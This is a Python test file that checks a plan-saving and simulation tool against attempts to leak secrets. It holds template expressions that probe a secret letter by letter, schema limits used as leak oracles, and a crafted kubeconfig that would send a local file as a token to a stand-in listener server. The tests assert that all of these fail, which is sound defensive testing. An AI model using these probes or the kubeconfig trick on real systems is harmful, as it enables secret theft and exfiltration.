"""Proposals that would get at secrets by what a plan turns out to be, or reach other machines."""

import json
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from threading import Thread
from typing import Any

import pytest

from .conftest import PLANTED, TOPOLOGY, World

Asked = Callable[..., Any]
STACK = {"folder": "training", "stack": "prod"}
SECRET = PLANTED["config"]


def plan_of(topology: str, **files: str) -> tuple[str, dict[str, Any]]:
    proposed = {"topology.yaml": topology, **files}
    return "save_plan", {**STACK, "save_to": "plan.json", "files": proposed}


@pytest.fixture(autouse=True)
def no_plan_is_left(world: World) -> Iterator[None]:
    yield
    (world.project / "plan.json").unlink(missing_ok=True)


def named(expression: str) -> str:
    return TOPOLOGY.replace("cluster_name: training", f'cluster_name: "{{{{ {expression} }}}}"')


QUESTIONS = [
    "'training' if config.other[0] == 'p' else 'other'",
    "'training' if config.other.startswith('planted') else 'other'",
    "1 // 0 if config.other > 'm' else 'training'",
    "{'p': 'training'}[config.other[0]]",
    "config.other[0]",
    "config.other | length",
    "'training'[:config.other | length]",
    "['training', 'x'][0 if 'planted' in config.other else 1]",
    "[config.other, config.other] | unique | first",
    "stack_references.self.token[0]",
]


def test_a_proposal_asks_nothing_of_a_secret(world: World) -> None:
    """A plan that turns out by the answer tells one letter after the other."""
    own = "stack_references: {self: organization/demo/prod}\n"
    answers = world.ask(*(plan_of(own + named(each)) for each in QUESTIONS))
    for question, answer in zip(QUESTIONS, answers, strict=True):
        assert not answer["ok"], question
    told = [str(answer["data"]) for answer in answers]
    wanted = ("makes something of a secret", "no method", "no filter", "is not known", "unique")
    assert [text for text in told if not any(each in text for each in wanted)] == []
    # Whatever the answer is, the refusal is the same.
    right, wrong = world.ask(
        *(plan_of(named(f"'a' if config.other[0] == '{sign}' else 'b'")) for sign in "pq")
    )
    assert right["data"] == wrong["data"]


LIMITS = ["pattern: 'p.*'", "min_length: 5", "enum: [a, b]", "type: integer", "max_length: 3"]


def test_a_proposal_holds_no_secret_against_limits_of_its_own(world: World) -> None:
    def limited(limit: str) -> str:
        declared = "other: {type: string, secret: true}"
        kind = "" if "type:" in limit else "type: string, "
        return TOPOLOGY.replace(declared, f"other: {{{kind}secret: true, {limit}}}")

    for limit, answer in zip(
        LIMITS, world.ask(*(plan_of(limited(each)) for each in LIMITS)), strict=True
    ):
        assert not answer["ok"], limit
        assert "limits that no file of the project has" in str(answer["data"]), answer
    module = "inputs: {given: {type: string, pattern: 'p.*'}}\noutputs: {a: '{{ inputs.given }}'}\n"
    whole = TOPOLOGY + '  a: "{{ modules.m.a }}"\n'
    whole += "include: [{file: m.yaml, name: m, with: {given: '{{ config.other }}'}}]\n"
    (answer,) = world.ask(plan_of(whole, **{"m.yaml": module}))
    assert "limits that no file of the project has" in str(answer["data"]), answer


def test_a_proposal_may_pass_a_secret_on_and_use_it_as_the_project_does(world: World) -> None:
    more = (
        TOPOLOGY
        + '  again: "{{ config.other }}"\n  same: "{{ config.token }}-{{ config.other }}"\n'
    )
    (answer,) = world.ask(plan_of(more))
    assert answer["ok"], answer
    assert SECRET not in json.dumps(answer)


@contextmanager
def listener() -> Iterator[tuple[str, list[str]]]:
    """A server of somebody else, and what it was asked."""
    heard: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            heard.append(f"{self.path} {self.headers.get('Authorization')}")
            self.send_error(404)

        def log_message(self, *arguments: object) -> None:
            del arguments

    server = HTTPServer(("127.0.0.1", 0), Handler)
    Thread(target=server.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", heard
    finally:
        server.shutdown()
        server.server_close()


CERTIFIED = """
certifications:
  proof:
    platform: scp
    name: proof
    region_id: kr-west1
    node_ids: [node-1, node-2]
    kubernetes: {kubeconfig: KUBECONFIG}
    categories: [{domain: communication, variant: nccl-all-reduce, floor: 300}]
"""
POOL = """
node_pools:
  workers:
    platform: scp
    gpu_node_name_prefix: node
    drain: {kubernetes: {kubeconfig: KUBECONFIG}}
"""


def test_a_proposal_sends_no_file_of_this_machine_to_a_server_of_its_choice(
    world: World, tmp_path: Path
) -> None:
    """A kubeconfig may name a file whose text is sent as a token."""
    (tmp_path / "of-this-machine").write_text("planted-file-9c3e")
    with listener() as (address, heard):
        stealing = {
            "apiVersion": "v1",
            "kind": "Config",
            "current-context": "x",
            "contexts": [{"name": "x", "context": {"cluster": "x", "user": "x"}}],
            "clusters": [{"name": "x", "cluster": {"server": address}}],
            "users": [{"name": "x", "user": {"tokenFile": str(tmp_path / "of-this-machine")}}],
        }
        topology = TOPOLOGY + CERTIFIED.replace("KUBECONFIG", "theirs.yaml")
        files = {"topology.yaml": topology, "theirs.yaml": json.dumps(stealing)}
        arguments = {**STACK, "files": files}
        saved, simulated = world.ask(
            ("save_plan", {**arguments, "save_to": "plan.json"}),
            ("simulate", {**arguments, "allow": ["real-schedulers"]}),
        )
    assert heard == []
    assert "planted-file" not in json.dumps([saved, simulated])
